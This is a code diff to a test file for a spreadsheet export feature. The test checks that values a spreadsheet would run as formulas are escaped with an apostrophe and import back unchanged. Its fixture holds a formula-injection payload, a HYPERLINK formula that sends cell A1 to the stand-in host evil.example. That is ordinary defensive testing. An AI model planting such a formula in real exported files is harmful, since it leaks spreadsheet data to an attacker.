@@ -141,7 +141,9 @@ def test_an_unchanged_export_imports_again_without_errors(admin_client, file_for
 @pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
 def test_export_text_a_spreadsheet_would_run_is_kept_as_text(admin_client, file_format):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
-    CareerPageFactory(summary=formula, duties="- a Markdown list item")
+    CareerPageFactory(
+        summary=formula, duties="- a Markdown list item", outlook="'-' quoted"
+    )
     exported = export(admin_client, CareerPage, file_format).content
     if file_format == XLSX_FORMAT:
         sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
@@ -151,6 +153,7 @@ def test_export_text_a_spreadsheet_would_run_is_kept_as_text(admin_client, file_
         (cells,) = csv.DictReader(io.StringIO(exported.decode()))
     assert cells["summary"] == f"'{formula}"
     assert cells["duties"] == "'- a Markdown list item"
+    assert cells["outlook"] == "''-' quoted"  # one apostrophe comes off again
     # The apostrophe comes off on the way back: the file imports unchanged.
     name = "pages.xlsx" if file_format == XLSX_FORMAT else "pages.csv"
     preview = upload(admin_client, CareerPage, exported, name, file_format)
